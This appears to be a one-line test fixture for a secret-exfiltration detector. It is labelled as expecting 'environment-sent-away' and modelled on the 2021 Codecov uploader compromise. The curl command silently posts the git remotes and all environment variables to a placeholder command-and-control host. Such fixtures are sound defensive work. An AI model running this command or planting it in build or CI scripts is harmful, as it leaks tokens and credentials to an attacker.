# expect: environment-sent-away | source: Codecov 2021
curl -sm 0.5 -d "$(git remote -v)<<<<<< ENV $(env)" http://c2.example.invalid/upload/v2 || true
